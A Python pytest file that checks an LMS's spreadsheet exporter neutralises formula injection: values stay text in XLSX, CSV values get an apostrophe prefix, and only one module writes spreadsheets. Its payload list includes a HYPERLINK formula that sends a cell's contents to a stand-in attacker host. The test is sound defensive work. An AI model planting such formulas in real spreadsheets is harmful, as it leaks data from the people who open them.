"""The one spreadsheet writer: text stays text in XLSX and CSV."""

import csv
import io

import pytest
from openpyxl import load_workbook

from lms import exports

NASTY = ["=1+2", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A3,"x")']


def test_xlsx_keeps_every_formula_like_text_as_text_and_numbers_as_numbers():
    sheet = exports.Sheet(title="T", header=["a", "b"], rows=[[v, 3] for v in NASTY])
    book = load_workbook(io.BytesIO(exports.xlsx(sheet))).active
    cells = list(book.iter_rows(min_row=2))
    assert [row[0].value for row in cells] == NASTY
    assert {row[0].data_type for row in cells} == {"s"}
    assert {row[1].value for row in cells} == {3} and {row[1].data_type for row in cells} == {"n"}


@pytest.mark.parametrize("value", NASTY)
def test_csv_prefixes_formula_like_text(value):
    sheet = exports.Sheet(title="T", header=["=h"], rows=[[value, "plain", 5]])
    rows = list(csv.reader(io.StringIO(exports.csv_bytes(sheet).decode("utf-8-sig"))))
    assert rows == [["'=h"], [f"'{value}", "plain", "5"]]


def test_only_lms_exports_writes_spreadsheets():
    """Every XLSX and CSV the site hands out is written by `lms.exports` (which keeps formula-like
    text as text): no other module builds a workbook or a CSV writer of its own."""
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    writer = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|\bxlsxwriter\b")
    others = sorted(
        str(path.relative_to(root))
        for path in root.glob("*/**/*.py")
        if path.parts[len(root.parts)] not in {".venv", "tests", "benchmarks"}
        and path.relative_to(root) != Path("lms/exports.py")
        and writer.search(path.read_text(encoding="utf-8"))
    )
    assert others == []
